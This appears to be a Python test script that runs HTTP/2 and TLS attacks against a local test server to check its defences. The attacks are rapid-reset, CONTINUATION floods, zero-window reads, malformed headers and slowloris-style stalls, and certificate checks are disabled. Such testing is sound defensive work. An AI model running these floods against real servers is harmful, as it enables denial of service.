"""Attacks on an HTTP/2 server over TLS, made with the h2 library, for the HTTP/2 tests.

Usage: h2_attacks.py ATTACK PORT PATH [COUNT]
  rapid-reset COUNT   open and at once reset COUNT streams (CVE-2023-44487); prints how many were sent before the
                      server closed the connection (or COUNT), and whether it sent GOAWAY.
  continuation COUNT  one HEADERS without END_HEADERS, then COUNT small CONTINUATION frames (CVE-2024-27316 family);
                      prints whether the server closed the connection and after how many.
  never-read          asks for PATH with a flow-control window of 0 and never opens it; prints how many DATA bytes
                      arrived in 3 s (the server must stop at the window, holding the rest).
  hpack-table COUNT   asks for PATH COUNT times on one connection, one stream after the other; prints the statuses
                      and the names of the fields the server entered in the connection's HPACK table.
  bodies COUNT        COUNT POSTs to PATH on one connection, one after the other, each with a 40 KiB body sent as the
                      flow-control windows allow; prints the statuses (together the bodies are more than the 65,535
                      bytes a connection's window starts with: the server must give the window back).
  malformed           on one connection, one after the other: GET requests whose heads RFC 9113 calls malformed
                      (an uppercase name, a connection-specific field, `te: gzip`, a pseudo-header after a field,
                      no :scheme, an unknown or a repeated pseudo-header, a CR in a value, a body longer than its
                      content-length), then a well-formed GET of PATH; prints the statuses, the first line of
                      each refusal's body and whether the connection closed.
  keepalive COUNT     two requests on one HTTP/1.1 connection over TLS, COUNT seconds apart; prints both status lines.
  stall COUNT SECONDS COUNT HTTP/1.1 connections over TLS (small receive buffers) ask for PATH, read 100 bytes and
                      stop reading for SECONDS; prints how many got an answer's first bytes.
Prints one JSON object. The certificate is not verified: the tests' own server on 127.0.0.1.
"""
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

attack, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
count = int(sys.argv[4]) if len(sys.argv) > 4 else 0

if attack == "keepalive":
    # Two requests on one HTTP/1.1 connection over TLS, COUNT seconds apart.
    plain = ssl.create_default_context()
    plain.check_hostname = False
    plain.verify_mode = ssl.CERT_NONE
    plain.set_alpn_protocols(["http/1.1"])
    statuses = []
    try:
        tls = plain.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="127.0.0.1")
        tls.settimeout(30)
        for index in range(2):
            if index:
                time.sleep(count)
            tls.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % path).encode())
            statuses.append(tls.recv(65536).split(b"\r\n", 1)[0].decode())
    except OSError as error:
        statuses.append("error: %s" % error)
    print(json.dumps({"attack": attack, "statuses": statuses}))
    sys.exit(0)

if attack == "stall":
    seconds = float(sys.argv[5])
    stalled = []
    for _ in range(count):
        plain = ssl.create_default_context()
        plain.check_hostname = False
        plain.verify_mode = ssl.CERT_NONE
        plain.set_alpn_protocols(["http/1.1"])
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.connect(("127.0.0.1", port))
        tls = plain.wrap_socket(raw, server_hostname="127.0.0.1")
        tls.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % path).encode())
        tls.settimeout(10)
        first = tls.recv(100)
        stalled.append((tls, first))
    time.sleep(seconds)
    print(json.dumps({"attack": attack, "answered": sum(1 for _, first in stalled if first.startswith(b"HTTP/1.1 200"))}))
    sys.exit(0)

context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port))
sock = context.wrap_socket(raw, server_hostname="127.0.0.1")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
sock.settimeout(5)

settings = {}
if attack == "never-read":
    settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = 0
# The malformed heads are sent as written: the library neither checks nor lowercases them.
lenient = attack == "malformed"
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(
    client_side=True, header_encoding="utf-8", validate_outbound_headers=not lenient,
    normalize_outbound_headers=not lenient))
conn.initiate_connection()
if settings:
    conn.update_settings(settings)
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "127.0.0.1")]


def drain(timeout):
    """Reads what the server sends for up to `timeout` seconds: (events, closed)."""
    events = []
    deadline = time.time() + timeout
    while time.time() < deadline:
        sock.settimeout(max(0.01, deadline - time.time()))
        try:
            data = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            return events, True
        if not data:
            return events, True
        try:
            events += conn.receive_data(data)
        except Exception:
            return events, True
        outgoing = conn.data_to_send()
        if outgoing:
            try:
                sock.sendall(outgoing)
            except OSError:
                return events, True
    return events, False


def read_stream(events, stream, statuses):
    """Reads one stream's events: appends each status to `statuses`, gives back each DATA frame's window, and
    says whether `stream` ended."""
    ended = False
    for event in events:
        if isinstance(event, h2.events.ResponseReceived):
            statuses.append(dict(event.headers).get(":status"))
        if isinstance(event, h2.events.DataReceived):
            conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        ended = ended or (isinstance(event, h2.events.StreamEnded) and event.stream_id == stream)
    return ended

result = {"attack": attack}
if attack == "rapid-reset":
    sent = 0
    closed = False
    goaway = False
    for index in range(count):
        stream = conn.get_next_available_stream_id()
        try:
            conn.send_headers(stream, headers)
            conn.reset_stream(stream)
            sock.sendall(conn.data_to_send())
        except Exception:
            closed = True
            break
        sent += 1
        if index % 50 == 49:
            events, closed = drain(0.05)
            goaway = goaway or any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
            if closed or goaway:
                break
    if not closed:
        events, closed = drain(2)
        goaway = goaway or any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
    result.update(sent=sent, closed=closed or goaway, goaway=goaway)
elif attack == "continuation":
    stream = conn.get_next_available_stream_id()
    # A HEADERS frame without END_HEADERS, its block started, then CONTINUATION frames of a few bytes each.
    block = conn.encoder.encode(headers)
    frame = bytes([0, 0, len(block), 0x1, 0x0]) + stream.to_bytes(4, "big") + block
    sock.sendall(conn.data_to_send() + frame)
    sent = 0
    closed = False
    piece = conn.encoder.encode([("x-filler", "a" * 8)])
    for _ in range(count):
        continuation = bytes([0, 0, len(piece), 0x9, 0x0]) + stream.to_bytes(4, "big") + piece
        try:
            sock.sendall(continuation)
        except OSError:
            closed = True
            break
        sent += 1
        if sent % 100 == 0:
            _, closed = drain(0.01)
            if closed:
                break
    if not closed:
        _, closed = drain(2)
    result.update(sent=sent, closed=closed)
elif attack == "never-read":
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    events, closed = drain(3)
    received = sum(len(e.data) for e in events if isinstance(e, h2.events.DataReceived))
    status = [dict(e.headers).get(":status") for e in events if isinstance(e, h2.events.ResponseReceived)]
    result.update(received=received, status=status, closed=closed)
elif attack == "hpack-table":
    statuses = []
    for _ in range(count):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers, end_stream=True)
        sock.sendall(conn.data_to_send())
        ended = False
        deadline = time.time() + 10
        while not ended and time.time() < deadline:
            events, closed = drain(0.2)
            sock.sendall(conn.data_to_send())
            ended = read_stream(events, stream, statuses) or ended
            if closed:
                break
    names = sorted({name.decode() if isinstance(name, bytes) else name
                    for name, _ in conn.decoder.header_table.dynamic_entries})
    result.update(statuses=statuses, table=names)
elif attack == "bodies":
    statuses = []
    body = b"x" * (40 << 10)
    post = [(":method", "POST"), (":path", path), (":scheme", "https"), (":authority", "127.0.0.1"),
            ("authorization", "Bearer not-the-token"), ("content-type", "application/x-www-form-urlencoded")]
    for _ in range(count):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, post)
        sent, ended, closed = 0, False, False
        deadline = time.time() + 5
        while not ended and not closed and time.time() < deadline:
            window = min(conn.local_flow_control_window(stream), conn.max_outbound_frame_size, len(body) - sent)
            if sent < len(body) and window > 0:
                conn.send_data(stream, body[sent:sent + window], end_stream=sent + window == len(body))
                sent += window
            sock.sendall(conn.data_to_send())
            events, closed = drain(0.05)
            ended = read_stream(events, stream, statuses) or ended
        if not ended:
            statuses.append("stalled after %d body bytes" % sent)
            break
    result.update(statuses=statuses)
elif attack == "malformed":
    base = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "127.0.0.1")]
    heads = [
        (base + [("X-Upper", "1")], None),
        (base + [("connection", "keep-alive")], None),
        (base + [("te", "gzip")], None),
        ([(":method", "GET"), (":scheme", "https"), ("accept", "*/*"), (":path", path)], None),
        ([(":method", "GET"), (":path", path), (":authority", "127.0.0.1")], None),
        (base + [(":foo", "bar")], None),
        (base + [(":path", path)], None),
        (base + [("x-split", "a\rb")], None),
        ([(":method", "POST")] + base[1:] + [("content-length", "3")], b"abcdef"),
        (base, None),
    ]
    statuses, reasons, closed = [], [], False
    for fields, body in heads:
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, fields, end_stream=body is None)
        if body is not None:
            conn.send_data(stream, body, end_stream=True)
        sock.sendall(conn.data_to_send())
        ended, text = False, b""
        deadline = time.time() + 10
        while not ended and time.time() < deadline:
            events, closed = drain(0.2)
            text += b"".join(e.data for e in events if isinstance(e, h2.events.DataReceived) and e.stream_id == stream)
            ended = read_stream(events, stream, statuses) or ended
            if closed:
                break
        reasons.append(text[:200].decode("utf-8", "replace").split("\n", 1)[0])
        if closed:
            break
    result.update(statuses=statuses, reasons=reasons[:-1], closed=closed)
print(json.dumps(result))
